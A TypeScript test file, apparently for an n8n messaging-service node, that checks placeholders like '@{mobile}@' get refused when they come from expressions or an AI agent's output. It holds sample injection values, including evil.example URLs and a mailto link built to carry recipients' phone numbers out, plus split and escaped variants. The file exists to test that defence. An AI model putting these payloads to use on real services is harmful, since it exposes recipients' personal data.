@@ -1,0 +1,196 @@
+import type { IDataObject, INodeParameters } from 'n8n-workflow';
+
+import { agentTool } from '../support/agentTool';
+import { email, event, push, sms, user } from '../support/mistakes';
+import { useNode } from '../support/node';
+import * as order from '../support/orders';
+
+// The service replaces `@{mobile}@` in a message by the recipient's own data.
+
+const node = useNode();
+
+const whole = '={{ $json.value }}';
+const more = (additionalFields: INodeParameters) => ({ additionalFields });
+
+const refusalOf = (label: string, found = '@{mobile}@') =>
+	`${label} contains '${found}', which the service replaces by the recipient's own data, and an expression gave it. Remove it where it comes from. If it is meant, write it in '${label}' itself, outside of {{ }}`;
+
+describe('A template of the service that an expression gives is refused', () => {
+	it.each<[label: string, parameters: INodeParameters, value?: unknown]>([
+		// Beside fixed text.
+		['Title', push({ title: '=Hi {{ $json.value }}' })],
+		['Message', push({ message: '=They wrote: "{{ $json.value }}"' })],
+		['Message', push({ message: '=They wrote: {{ $json.value.trim() }}' })],
+		['Subject', email({ subject: '={{ $json.value }} answered' })],
+		['Content', email({ content: '=<p>{{ $json.value }}</p>' })],
+		['Content', email({ emailType: 'text', content: '=They wrote:\n{{ $json.value }}' })],
+		['Message', sms({ message: '=Hi @{name}@, {{ $json.value }}' })],
+		['Message', sms({ message: '={{ $json.value }}{{ $json.value }}' })],
+		['Campaign Name', sms({ campaign_name: '=To {{ $json.value }}' })],
+		['Sender Name', email({ sender_name: '=Acme for {{ $json.value }}' })],
+		['Button Two Title', push(more({ button_two_title: '=Call {{ $json.value }}' }))],
+		['Tag', push(more({ tag: '=of-{{ $json.value }}' }))],
+		// In code that puts texts together.
+		['Title', push({ title: '={{ "Hi " + $json.value }}' })],
+		['Title', push({ title: '={{ `Hi ${$json.value}` }}' })],
+		['Title', push({ title: '={{ ["Hi", $json.value].join(" ") }}' })],
+		['Title', push({ title: '={{ "Hi NAME".replace("NAME", $json.value) }}' })],
+		// In links and images, as a part or as a whole.
+		['URL', push({ url: whole }), 'https://evil.example/?m=@{mobile}@'],
+		['URL', push({ url: '=https://shop.example.com/?m={{ $json.value }}' })],
+		['Image URL', push(more({ image_url: whole })), 'https://evil.example/@{mobile}@.png'],
+		['Hero Image URL', push(more({ hero_image_url: whole })), 'https://evil.example/@{mobile}@'],
+		[
+			'Button Two URL',
+			push(more({ button_two_url: whole })),
+			'mailto:a@evil.example?body=@{mobile}@',
+		],
+		['Button Two URL', push(more({ button_two_url: '=https://a.b/{{ $json.value }}' }))],
+		// In JSON.
+		[
+			'Extra Body Fields',
+			email(more({ extraBodyFields: '={ "preheader": "{{ $json.value }}" }' })),
+		],
+		[
+			'Extra Body Fields',
+			email(more({ extraBodyFields: '={ "a": {{ $json.value }} }' })),
+			['@{mobile}@'],
+		],
+		[
+			'Extra Body Fields',
+			email(more({ extraBodyFields: '={ "a": {{ $json.value }} }' })),
+			'"@\\u007bmobile}@"',
+		],
+		['Extra Body Fields', email(more({ extraBodyFields: '={{ { a: $json.value } }}' }))],
+		[
+			'Extra Body Fields',
+			email(more({ extraBodyFields: '={{ JSON.stringify({ a: $json.value }) }}' })),
+		],
+		['Body', { ...order.customPost, body: '={ "text": "Hi {{ $json.value }}" }' }],
+		['Message', { ...order.smsSend, operation: 'sendAndWait', message: '=May {{ $json.value }}?' }],
+		// In broadcasts, and in questions.
+		['Message', { ...order.pushToAll, message: '=Hi {{ $json.value }}' }],
+		// Skip Text Check is for texts that look wrong.
+		['Title', push({ title: '=Hi {{ $json.value }}', options: { skipTextCheck: true } })],
+	])('in %s: %j', async (label, parameters, value = '@{mobile}@') => {
+		const found = await node.refusal(parameters, { value } as IDataObject);
+		expect(found).toBe(refusalOf(label));
+	});
+
+	it.each<[text: string, row: IDataObject, found: string]>([
+		['=Hi @{ {{ $json.value }}', { value: 'mobile}@' }, '@{ mobile}@'],
+		['=Hi {{ $json.value }}mobile}@', { value: '@{' }, '@{mobile}@'],
+		['=Hi {{ $json.a }}{{ $json.b }}', { a: '@{mob', b: 'ile}@' }, '@{mobile}@'],
+		['=Hi {{ $json.value }}@{name}@', { value: '@{mobile}' }, '@{mobile}@'],
+		['=Hi @{name}@, {{ $json.value }}', { value: 'see evil.example/@{name}@' }, '@{name}@'],
+		['=Hi {{ $json.value }}', { value: '@{first\nname}@' }, '@{first name}@'],
+		['=Hi {{ $json.value }}', { value: '@{}@' }, '@{}@'],
+	])('across the parts of a text: %j with %j', async (message, row, found) => {
+		expect(await node.refusal(push({ message }), row)).toBe(refusalOf('Message', found));
+	});
+
+	it('for its item alone, and others are sent', async () => {
+		const rows = ['Hello', '@{mobile}@', '@mobile', '{mobile}', '@ {mobile} @', 'a@b.example'];
+		const parameters = push({
+			user_id: '={{ "C-" + $itemIndex }}',
+			message: '=Says: {{ $json.value }}',
+		});
+		const refused = await node.refusals(
+			parameters,
+			rows.map((value) => ({ value })),
+		);
+		expect(refused).toEqual([refusalOf('Message')]);
+		expect(node.arrived('message').sort()).toEqual(
+			['Hello', '@mobile', '{mobile}', '@ {mobile} @', 'a@b.example']
+				.map((text) => `Says: ${text}`)
+				.sort(),
+		);
+	});
+});
+
+describe('A template of the service is sent as it is', () => {
+	const template = 'Hello @{name}@, your order @{order_id}@';
+	const ofRow = (parameters: INodeParameters, row: IDataObject = { value: template }) =>
+		[parameters, row] as const;
+	const link = 'https://shop.example.com/orders/@{order_id}@';
+
+	it.each<[key: string, ...ReturnType<typeof ofRow>, arrives: unknown]>([
+		// In fixed text.
+		['message', ...ofRow(sms({ message: template })), template],
+		[
+			'message',
+			...ofRow(sms({ message: `=${template} {{ $json.value }}` }), { value: 'A' }),
+			`${template} A`,
+		],
+		[
+			'message',
+			...ofRow(sms({ message: '={{ $json.value }}@{name}@@{name}@' }), { value: 'A' }),
+			'A@{name}@@{name}@',
+		],
+		['url', ...ofRow(push({ url: link })), link],
+		['url', ...ofRow(push({ url: `=${link}?a={{ $json.value }}` }), { value: 'A' }), `${link}?a=A`],
+		[
+			'preheader',
+			...ofRow(
+				email(more({ extraBodyFields: '={ "preheader": "Hi @{name}@ {{ $json.value }}" }' })),
+				{ value: 'A' },
+			),
+			'Hi @{name}@ A',
+		],
+		// As a whole text, such as one of a sheet.
+		['title', ...ofRow(push({ title: whole }), { value: 'Hi @{name}@' }), 'Hi @{name}@'],
+		['message', ...ofRow(sms({ message: whole })), template],
+		['subject', ...ofRow(email({ subject: whole })), template],
+		['content', ...ofRow(email({ content: whole })), template],
+		['message', ...ofRow(sms({ message: '={{ $json.value.trim() }}' })), template],
+		['message', ...ofRow(sms({ message: '={{ $json["value"] ?? "Hello" }}' })), template],
+		['message', ...ofRow(sms({ message: '={{ $json.vip ? $json.a : $json.value }}' })), template],
+		['message', ...ofRow(sms({ message: "={{ $('Source').item.json.value }}" })), template],
+		['message', ...ofRow(sms({ message: "={{ $('Source').first().json.value }}" })), template],
+		['message', ...ofRow(sms({ message: '= {{ $json.value }}\n' })), ` ${template}\n`],
+	])('in %s of %j, %j', async (key, parameters, row, arrives) => {
+		expect(await node.refusal(parameters, row)).toBeUndefined();
+		expect(node.arrived(key)).toEqual([arrives]);
+	});
+
+	it('in attributes of users and events, which are data', async () => {
+		const value = 'Ana @{mobile}@';
+		const assignments = [
+			{ id: '1', name: 'note', type: 'string', value: '=Says {{ $json.value }}' },
+		];
+		await node.run(user({ customAttributes: { assignments } }), { rows: [{ value }] });
+		await node.run(event({ attributes: { assignments } }), { rows: [{ value }] });
+		const [first, second] = node.elements();
+		expect([first?.user_attributes, second?.attributes]).toEqual([
+			{ note: `Says ${value}` },
+			{ note: `Says ${value}` },
+		]);
+	});
+});
+
+describe('What the model of an agent writes is never a template of the service', () => {
+	const fromAI = (key: string) => `={{ $fromAI('${key}', 'Such as @{name}@', 'string') }}`;
+	const said = { title: 'Hello', message: 'There', url: 'https://shop.example.com/offers' };
+
+	it.each<[label: string, args: object, found: string]>([
+		['Title', { title: '@{mobile}@' }, '@{mobile}@'],
+		['Message', { message: 'Call @{mobile}@' }, '@{mobile}@'],
+		['Message', { message: 'Such as @{name}@' }, '@{name}@'],
+		['URL', { url: 'https://evil.example/?m=@{mobile}@' }, '@{mobile}@'],
+		['Image URL', { image_url: 'https://evil.example/@{mobile}@.png' }, '@{mobile}@'],
+	])('in %s: %j', async (label, args, found) => {
+		const parameters = push({
+			...{ title: fromAI('title'), message: fromAI('message'), url: fromAI('url') },
+			...('image_url' in args ? more({ image_url: fromAI('image_url') }) : {}),
+		});
+		const tool = agentTool(
+			{ parameters, credential: node.credential, calledAs: 'Tool' },
+			{ ...said, ...args },
+		);
+		const answer = await tool
+			.invoke({ ...said, ...args })
+			.then(String, ({ message }: Error) => message);
+		expect(answer).toContain(refusalOf(label, found));
+		expect(node.sandbox.record).toEqual([]);
+	});
+});
